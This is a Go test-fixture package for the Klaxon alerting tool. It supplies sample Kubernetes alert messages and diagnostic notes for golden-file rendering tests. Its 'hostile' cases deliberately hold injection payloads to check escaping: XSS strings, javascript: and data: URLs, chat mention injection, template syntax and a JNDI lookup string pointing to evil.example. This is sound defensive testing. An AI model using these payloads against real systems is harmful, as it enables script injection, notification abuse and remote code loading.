// Package notifytest has the sample messages every platform's golden-file
// tests render, so all platforms are checked against the same cases,
// including hostile label text.
package notifytest

import (
	"fmt"
	"time"

	"github.com/klaxon-oss/klaxon"
	"github.com/klaxon-oss/klaxon/internal/notify"
)

// At is the fixed time of every sample.
var At = time.Date(2026, 11, 21, 3, 12, 0, 0, time.UTC)

// BaseURL is the Klaxon URL of every sample.
const BaseURL = "https://klaxon.example.org"

func crashLooping(id int64, pod string) *klaxon.Alert {
	return &klaxon.Alert{
		ID: id, Integration: "prod-alertmanager", Key: "k" + pod,
		State: klaxon.StateFiring, Level: 0, Severity: "critical",
		Summary: "Pod prod/" + pod + " is crash looping",
		Labels: map[string]string{
			"alertname": "KubePodCrashLooping", "severity": "critical",
			"namespace": "prod", "pod": pod, "container": "api", "cluster": "eu-1",
		},
		Annotations: map[string]string{
			"summary":     "Pod prod/" + pod + " is crash looping",
			"description": "Pod prod/" + pod + " (api) restarted 5 times in the last 10 minutes.",
			"runbook_url": "https://runbooks.example.org/KubePodCrashLooping",
		},
		SourceURL: "http://prometheus.example.org/graph?g0.expr=kube_pod_container_status_restarts_total",
		StartsAt:  At.Add(-3 * time.Minute), FirstSeen: At.Add(-3 * time.Minute), LastSeen: At, Count: 1,
	}
}

// Cases are the sample messages, by golden-file name.
func Cases() map[string]*notify.Message {
	single := func(a *klaxon.Alert) *notify.Message {
		m := &notify.Message{
			GroupID: 7, Title: a.Name(), Level: a.Level, LevelName: fmt.Sprintf("P%d", a.Level),
			Severity: a.Severity, State: a.State, Labels: map[string]string{"alertname": a.Name()},
			Alerts: []*klaxon.Alert{a}, BaseURL: BaseURL, At: At,
		}
		switch a.State {
		case klaxon.StateFiring:
			m.Counts.Firing = 1
		case klaxon.StateAcknowledged:
			m.Counts.Acknowledged = 1
		default:
			m.Counts.Resolved = 1
		}
		m.URL = m.AlertURL(a.ID)
		return m
	}

	acked := crashLooping(12, "api-7d9f")
	acked.State, acked.AckedBy, acked.AckedAt = klaxon.StateAcknowledged, "@alice:example.org", At

	resolved := crashLooping(12, "api-7d9f")
	resolved.State, resolved.ResolvedBy, resolved.ResolvedAt = klaxon.StateResolved, "prod-alertmanager", At

	warning := &klaxon.Alert{
		ID: 31, Integration: "scripts", Key: "disk", State: klaxon.StateFiring, Level: 2, Severity: "warning",
		Summary: "Disk 91% full", Labels: map[string]string{"alertname": "NodeFilesystemAlmostFull", "instance": "db-1:9100", "severity": "warning"},
		Annotations: map[string]string{"summary": "Disk 91% full"}, StartsAt: At, FirstSeen: At, LastSeen: At, Count: 1,
	}

	// Every format's special characters, in labels and annotations.
	hostile := crashLooping(66, `<script>alert(1)</script>`)
	hostile.Labels["alertname"] = `Evil*Alert_<b>&amp;`
	hostile.Labels["team"] = "<!channel> @here *bold* _it_ ~x~ `code` [link](javascript:alert(1)) <https://evil.example|click>"
	hostile.Summary = `"><img src=x onerror=alert(1)> & <@U123> ${jndi}`
	hostile.Annotations["summary"] = hostile.Summary
	hostile.Annotations["description"] = "line1\n<a href=\"javascript:alert(1)\">x</a> | pipe {{ .Labels }} #room:evil @room"
	hostile.Annotations["runbook_url"] = "javascript:alert(1)"
	hostile.SourceURL = "data:text/html,<script>alert(1)</script>"

	group := &notify.Message{
		GroupID: 9, Title: "KubePodCrashLooping", Level: 0, LevelName: "P0", Severity: "critical",
		State: klaxon.StateFiring, Labels: map[string]string{"alertname": "KubePodCrashLooping", "namespace": "prod"},
		Counts: klaxon.GroupCounts{Firing: 9, Acknowledged: 2, Resolved: 1}, BaseURL: BaseURL, At: At,
	}
	for i := range notify.MaxShown {
		a := crashLooping(int64(40+i), fmt.Sprintf("api-%d", i))
		if i == 3 {
			a.State, a.AckedBy = klaxon.StateAcknowledged, "bob"
		}
		group.Alerts = append(group.Alerts, a)
	}
	group.URL = group.AlertURL(40)

	firing := single(crashLooping(12, "api-7d9f"))
	firing.Runbook = &notify.RunbookLink{
		Title: "Pod crash looping",
		URL:   BaseURL + "/runbooks/pod-crash-looping?alert=12",
		Steps: []string{
			"kubectl -n prod describe pod api-7d9f",
			"kubectl -n prod logs api-7d9f -c api --previous --tail=50\nkubectl -n prod get events --field-selector involvedObject.name=api-7d9f",
		},
		More: 2,
	}

	// The runbook's title is operator-written, but its steps carry label
	// values: every format's specials, in both.
	hostileMsg := single(hostile)
	hostileMsg.Runbook = &notify.RunbookLink{
		Title: "</code><script>alert(1)</script> <!channel> *bold* | pipe & <https://evil.example|click>",
		URL:   BaseURL + "/runbooks/evil?alert=66",
		Steps: []string{
			"kubectl -n prod logs </code></pre><script>alert(1)</script> --tail=50",
			"echo '<!channel> <!here> <@U123> *bold* _it_ ~x~ | <https://evil.example|click> &amp; @room #room:evil'\necho '[x](javascript:alert(1))' \"}]}\"",
			"printf '%s\\n' \"${jndi:ldap://evil.example/x}\" {{ .Labels }}",
		},
		More: 1,
	}

	group.Runbook = &notify.RunbookLink{
		Title: "Pod crash looping",
		URL:   BaseURL + "/runbooks/pod-crash-looping?alert=40",
		Steps: []string{"kubectl -n prod describe pod api-0"},
	}

	return map[string]*notify.Message{
		"critical_firing":   firing,
		"critical_acked":    single(acked),
		"critical_resolved": single(resolved),
		"warning_firing":    single(warning),
		"hostile":           hostileMsg,
		"group":             group,
	}
}

// Notes are the sample thread notes, by golden-file name: a diagnostics
// run with every kind of outcome, and one of hostile text.
func Notes() map[string]*notify.Note {
	return map[string]*notify.Note{
		"note": {
			GroupID: 7, AlertID: 12,
			Title: "Diagnostics for alert 12: KubePodCrashLooping prod/api-7d9f (asked by @alice:example.org)",
			URL:   BaseURL + "/alerts/12",
			Items: []notify.NoteItem{
				{
					Heading: "kubectl -n prod get pod api-7d9f -o wide",
					Status:  "exit 0 in 0.4s", OK: true, Mark: "✅",
					Body: "NAME       READY   STATUS             RESTARTS   AGE\napi-7d9f   0/1     CrashLoopBackOff   5          10m",
				},
				{
					Heading: "kubectl -n prod logs api-7d9f -c api --previous --tail=50",
					Status:  "exit 1 in 0.2s", Mark: "❌",
					Body: "Error from server (BadRequest): previous terminated container \"api\" in pod \"api-7d9f\" not found",
				},
				{
					Heading: "kubectl -n prod delete pod api-7d9f",
					Status:  "refused: kubectl delete is not on the allowlist", Mark: "⛔",
				},
				{
					Heading:   "kubectl -n prod get events --watch",
					Status:    "timed out after 10s",
					Mark:      "⏱",
					Body:      "LAST SEEN   TYPE      REASON    OBJECT         MESSAGE\n2m          Warning   BackOff   pod/api-7d9f   Back-off restarting failed container",
					Truncated: true,
				},
			},
		},
		"note_hostile": {
			GroupID: 7, AlertID: 66,
			Title: "Diagnostics for alert 66: Evil*Alert_<b>&amp; prod/<script>alert(1)</script> <!here>",
			URL:   BaseURL + "/alerts/66",
			Items: []notify.NoteItem{{
				Heading: "echo </code></pre></details><script>alert(1)</script> <!here> *bold* | `x`",
				Status:  "exit 0 in 1ms <!channel> <https://evil.example|click>", OK: true, Mark: "✅",
				Body: "</code></pre></details><script>alert(1)</script>\n<!here> <!channel> <@U123> *bold* _it_ ~x~ `code` ```fence``` | <https://evil.example|click> &amp; @room\n<a href=\"javascript:alert(1)\">x</a> <users/all>",
			}},
		},
	}
}
